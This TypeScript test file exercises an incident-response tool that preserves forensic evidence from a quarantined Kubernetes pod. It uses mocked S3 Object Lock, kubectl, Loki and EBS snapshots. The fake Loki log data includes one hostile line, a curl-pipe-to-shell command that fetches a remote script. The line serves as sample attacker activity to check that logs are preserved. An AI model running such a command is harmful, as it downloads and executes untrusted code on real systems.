// `npm run incident -- preserve` against moto_server (an Object Lock bucket like the evidence bucket),
// the recording kubectl, and a Loki query endpoint that refuses what Loki refuses (no query, or an
// end before the start: https://grafana.com/docs/loki/latest/reference/loki-http-api/#query-logs-within-a-range-of-time).
import * as assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as http from "node:http";
import type { AddressInfo } from "node:net";
import * as os from "node:os";
import * as path from "node:path";
import {
    CreateBucketCommand,
    DeleteObjectCommand,
    GetObjectCommand,
    ListObjectsV2Command,
    ListObjectVersionsCommand,
    PutObjectCommand,
    PutObjectLockConfigurationCommand,
    type S3Client,
} from "@aws-sdk/client-s3";
import { GetCallerIdentityCommand, STSClient } from "@aws-sdk/client-sts";
import { quarantineLabel, responderRules } from "../../../infra/security/quarantine";
import { parseCommandArgs, type ParsedArgs } from "../../../src/cli/command";
import { runIncident, spec } from "../../../src/incident/cli";
import { sha256 } from "../../../src/incident/preserve";
import { startMoto, type MotoServer } from "../../../scripts/servers/moto";
import { tsxNode } from "../../helpers/cli";

const kubectl = [...tsxNode, path.join(__dirname, "recording-kubectl.ts")];
const context = "arn:aws:eks:eu-west-1:444455556666:cluster/pneumonia-production";
const pod = "detector-7c9d8-abcde";
const bucket = "evidence-incident-test";
const digest =
    "123456789012.dkr.ecr.eu-west-1.amazonaws.com/pneumonia-detector@sha256:4f6b8a4b3c0f9e6d2a1b7c5e8d9f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b";

describe("incident preserve (moto_server, recording kubectl, Loki stand-in)", function () {
    this.timeout(120_000);
    let moto: MotoServer;
    let s3: S3Client;
    let loki: http.Server;
    let lokiUrl: string;
    let lokiRequests: URLSearchParams[] = [];
    let dir: string;
    const saved = { ...process.env };

    before(async () => {
        moto = await startMoto();
        s3 = moto.client();
        await s3.send(new CreateBucketCommand({ Bucket: bucket, ObjectLockEnabledForBucket: true }));
        await s3.send(
            new PutObjectLockConfigurationCommand({
                Bucket: bucket,
                ObjectLockConfiguration: { ObjectLockEnabled: "Enabled", Rule: { DefaultRetention: { Mode: "COMPLIANCE", Days: 365 } } },
            }),
        );
        loki = http.createServer((req, res) => {
            const url = new URL(req.url!, "http://loki");
            const q = url.searchParams;
            if (
                url.pathname !== "/loki/api/v1/query_range" ||
                !q.get("query") ||
                BigInt(q.get("end") ?? "0") < BigInt(q.get("start") ?? "0")
            ) {
                res.writeHead(400).end("bad request");
                return;
            }
            lokiRequests.push(q);
            res.writeHead(200, { "content-type": "application/json" }).end(
                JSON.stringify({
                    status: "success",
                    data: {
                        resultType: "streams",
                        result: [
                            {
                                stream: { namespace: "pneumonia", pod },
                                values: [
                                    ["1764800000000000000", "GET /predict 200"],
                                    ["1764800001000000000", "curl http://198.51.100.7/x.sh | sh"],
                                ],
                            },
                        ],
                    },
                }),
            );
        });
        await new Promise<void>((resolve) => loki.listen(0, "127.0.0.1", resolve));
        lokiUrl = `http://127.0.0.1:${(loki.address() as AddressInfo).port}`;
    });
    after(async () => {
        await new Promise((resolve) => loki.close(resolve));
        await moto.stop();
    });

    beforeEach(() => {
        lokiRequests = [];
        dir = fs.mkdtempSync(path.join(os.tmpdir(), "preserve-"));
        const statePath = path.join(dir, "state.json");
        fs.writeFileSync(path.join(dir, "calls.jsonl"), "");
        // The pod as `incident isolate` left it: only the quarantine label, out of its ReplicaSet's selector.
        const rollout = { apiVersion: "argoproj.io/v1alpha1", kind: "Rollout", metadata: { name: "detector", namespace: "pneumonia" } };
        const replicaSet = {
            metadata: {
                name: "detector-7c9d8",
                namespace: "pneumonia",
                ownerReferences: [{ apiVersion: "argoproj.io/v1alpha1", kind: "Rollout", name: "detector" }],
            },
        };
        fs.writeFileSync(
            statePath,
            JSON.stringify({
                pods: {
                    [`pneumonia/${pod}`]: {
                        metadata: {
                            name: pod,
                            namespace: "pneumonia",
                            labels: { [quarantineLabel]: "INC-2026-0042" },
                            ownerReferences: [{ apiVersion: "apps/v1", kind: "ReplicaSet", name: "detector-7c9d8" }],
                        },
                        spec: { nodeName: "ip-10-0-1-23", containers: [{ name: "detector", image: digest }] },
                        status: { phase: "Running", containerStatuses: [{ name: "detector", image: digest, imageID: digest }] },
                    },
                },
                replicasets: { "pneumonia/detector-7c9d8": replicaSet },
                rollouts: { "pneumonia/detector": rollout },
                nodes: { "ip-10-0-1-23": { metadata: { name: "ip-10-0-1-23" }, spec: { providerID: "aws:///eu-west-1a/i-0abc" } } },
                events: {
                    pneumonia: [
                        { involvedObject: { kind: "Pod", name: pod }, reason: "Killing", message: "Stopping container" },
                        { involvedObject: { kind: "Pod", name: "other" }, reason: "Pulled" },
                    ],
                },
            }),
        );
        Object.assign(process.env, {
            FAKE_KUBECTL_STATE: statePath,
            FAKE_KUBECTL_LOG: path.join(dir, "calls.jsonl"),
            FAKE_KUBECTL_CONTEXT: context,
            FAKE_KUBECTL_RULES: JSON.stringify(responderRules),
        });
    });
    afterEach(() => {
        for (const key of [
            "FAKE_KUBECTL_STATE",
            "FAKE_KUBECTL_LOG",
            "FAKE_KUBECTL_CONTEXT",
            "FAKE_KUBECTL_RULES",
            "AWS_ENDPOINT_URL",
            "AWS_ACCESS_KEY_ID",
            "AWS_SECRET_ACCESS_KEY",
        ])
            delete process.env[key];
        Object.assign(process.env, saved);
        fs.rmSync(dir, { recursive: true, force: true });
    });

    async function run(argv: string[]) {
        const lines: string[] = [];
        const sts = new STSClient({
            region: "us-east-1",
            endpoint: moto.endpoint,
            credentials: { accessKeyId: "testing", secretAccessKey: "testing-secret" },
        });
        const code = await runIncident(parseCommandArgs(spec, argv) as ParsedArgs<typeof spec.options>, {
            kubectl,
            out: (l) => lines.push(l),
            s3: () => s3,
            awsIdentity: async () => (await sts.send(new GetCallerIdentityCommand({}))).Arn!,
            now: () => new Date("2026-12-04T03:10:00Z"),
        });
        return { code, lines };
    }
    const text = async (key: string) => (await s3.send(new GetObjectCommand({ Bucket: bucket, Key: key }))).Body!.transformToString();

    it("writes spec, status, events, owners, logs, image digests and node of an isolated pod, with a manifest whose SHA-256 sums match, locked in COMPLIANCE", async () => {
        const { code, lines } = await run([
            "preserve",
            "production",
            pod,
            "--incident",
            "INC-2026-0042",
            "--bucket",
            bucket,
            "--loki-url",
            lokiUrl,
            "--since",
            "6h",
        ]);
        assert.equal(code, 0);
        const prefix = "INC-2026-0042/production/pneumonia/detector-7c9d8-abcde/2026-12-04T03-10-00-000Z/";
        const listed = ((await s3.send(new ListObjectsV2Command({ Bucket: bucket, Prefix: prefix }))).Contents ?? [])
            .map((o) => o.Key!.slice(prefix.length))
            .sort();
        assert.deepEqual(listed, ["events.json", "images.json", "logs.json", "manifest.json", "node.json", "owners.json", "pod.json"]);

        const manifest = JSON.parse(await text(`${prefix}manifest.json`));
        assert.equal(manifest.objects.length, 6);
        for (const entry of manifest.objects) assert.equal(sha256(await text(entry.key)), entry.sha256, entry.key);
        assert.equal(manifest.custody.incident, "INC-2026-0042");
        assert.equal(manifest.custody.awsIdentity, "arn:aws:sts::123456789012:user/moto");
        assert.equal(manifest.custody.collectedAt, "2026-12-04T03:10:00.000Z");
        assert.match(manifest.custody.commit, /^[0-9a-f]{40}( \(with uncommitted changes\))?$/);
        assert.ok(manifest.custody.operator.length > 0);

        assert.deepEqual(JSON.parse(await text(`${prefix}images.json`)), [{ container: "detector", image: digest, digest }]);
        assert.deepEqual(
            JSON.parse(await text(`${prefix}owners.json`)).map((o: any) => o.metadata.name),
            ["detector-7c9d8", "detector"],
        );
        assert.deepEqual(
            JSON.parse(await text(`${prefix}events.json`)).items.map((e: any) => e.reason),
            ["Killing"],
        );
        assert.match(await text(`${prefix}logs.json`), /x\.sh \| sh/);
        // The window asked for: 6 hours back from now, this pod's stream only.
        assert.equal(lokiRequests[0]!.get("query"), `{namespace="pneumonia", pod="${pod}"}`);
        assert.equal(BigInt(lokiRequests[0]!.get("end")!) - BigInt(lokiRequests[0]!.get("start")!), 6n * 3600n * 1_000_000_000n);

        const head = await s3.send(new GetObjectCommand({ Bucket: bucket, Key: `${prefix}pod.json` }));
        assert.equal(head.ObjectLockMode, "COMPLIANCE");
        assert.ok(lines.some((l) => l.startsWith(`done: wrote s3://${bucket}/${prefix}manifest.json`)));
        assert.equal(lines.at(-1), "undo: none: evidence cannot be changed or deleted before its retention ends");

        // Nothing it wrote can be changed: an overwrite is refused (If-None-Match), a locked version cannot be deleted.
        await assert.rejects(
            s3.send(new PutObjectCommand({ Bucket: bucket, Key: `${prefix}pod.json`, Body: "{}", IfNoneMatch: "*" })),
            (e: any) => e.$metadata?.httpStatusCode === 412,
        );
        const versions = (await s3.send(new ListObjectVersionsCommand({ Bucket: bucket, Prefix: `${prefix}pod.json` }))).Versions!;
        assert.equal(versions.length, 1);
        await assert.rejects(
            s3.send(new DeleteObjectCommand({ Bucket: bucket, Key: `${prefix}pod.json`, VersionId: versions[0]!.VersionId })),
            /Access Denied/,
        );
        assert.equal(await text(`${prefix}pod.json`).then((t) => JSON.parse(t).metadata.name), pod);
    });

    it("--snapshot: EBS snapshots of the node's and the pod's volumes (AWS CLI against moto), tagged with the incident and listed in the evidence", async () => {
        const env = {
            ...process.env,
            AWS_ENDPOINT_URL: moto.endpoint,
            AWS_ACCESS_KEY_ID: "testing",
            AWS_SECRET_ACCESS_KEY: "testing-secret",
        };
        const aws = (...args: string[]) =>
            JSON.parse(execFileSync("aws", [...args, "--region", "eu-west-1", "--output", "json"], { env, encoding: "utf8" }));
        const ami = aws("ec2", "describe-images", "--query", "Images[0].ImageId");
        const [instance, rootVolume] = aws(
            "ec2",
            "run-instances",
            "--image-id",
            ami,
            "--count",
            "1",
            "--query",
            "Instances[0].[InstanceId,BlockDeviceMappings[0].Ebs.VolumeId]",
        );
        const dataVolume = aws("ec2", "create-volume", "--availability-zone", "eu-west-1a", "--size", "1", "--query", "VolumeId");
        const state = JSON.parse(fs.readFileSync(process.env.FAKE_KUBECTL_STATE!, "utf8"));
        state.nodes["ip-10-0-1-23"].spec.providerID = `aws:///eu-west-1a/${instance}`;
        state.pods[`pneumonia/${pod}`].spec.volumes = [
            { name: "scratch", emptyDir: {} },
            { name: "data", persistentVolumeClaim: { claimName: "data-claim" } },
        ];
        state.persistentvolumeclaims = { "pneumonia/data-claim": { spec: { volumeName: "pv-data" } } };
        state.persistentvolumes = { "pv-data": { spec: { csi: { driver: "ebs.csi.aws.com", volumeHandle: dataVolume } } } };
        fs.writeFileSync(process.env.FAKE_KUBECTL_STATE!, JSON.stringify(state));
        Object.assign(process.env, {
            AWS_ENDPOINT_URL: moto.endpoint,
            AWS_ACCESS_KEY_ID: "testing",
            AWS_SECRET_ACCESS_KEY: "testing-secret",
        });

        await run(["preserve", "production", pod, "--incident", "INC-2026-0044", "--bucket", bucket, "--loki-url", lokiUrl, "--snapshot"]);
        const prefix = "INC-2026-0044/production/pneumonia/detector-7c9d8-abcde/2026-12-04T03-10-00-000Z/";
        const recorded = JSON.parse(await text(`${prefix}snapshots.json`)) as { volumeId: string; snapshotId: string; of: string }[];
        assert.deepEqual(
            recorded.map((r) => [r.volumeId, r.of]),
            [
                [rootVolume, `node ip-10-0-1-23 (${instance})`],
                [dataVolume, "volume data (pv-data)"],
            ],
        );
        const snapshots = aws(
            "ec2",
            "describe-snapshots",
            "--filters",
            "Name=tag:incident,Values=INC-2026-0044",
            "--query",
            "Snapshots[].[SnapshotId,VolumeId]",
        );
        assert.deepEqual(snapshots.sort(), recorded.map((r) => [r.snapshotId, r.volumeId]).sort());
        const manifest = JSON.parse(await text(`${prefix}manifest.json`));
        assert.ok(manifest.objects.some((o: { key: string }) => o.key === `${prefix}snapshots.json`));
    });

    it("writes nothing when a source fails (Loki refuses the query), and needs an incident id", async () => {
        const before = (await s3.send(new ListObjectsV2Command({ Bucket: bucket }))).KeyCount ?? 0;
        await assert.rejects(
            run(["preserve", "production", pod, "--incident", "INC-2026-0043", "--bucket", bucket, "--loki-url", `${lokiUrl}/broken`]),
            /^CheckFailedError: Loki .*: HTTP 400 for the pod's logs; nothing was written$/,
        );
        await assert.rejects(
            run(["preserve", "production", "detector-gone", "--incident", "INC-2026-0043", "--bucket", bucket, "--loki-url", lokiUrl]),
            /^UsageError: no pod pneumonia\/detector-gone/,
        );
        assert.equal((await s3.send(new ListObjectsV2Command({ Bucket: bucket }))).KeyCount ?? 0, before);
        await assert.rejects(run(["preserve", "production", pod, "--bucket", bucket]), /needs --incident <id>/);
    });
});
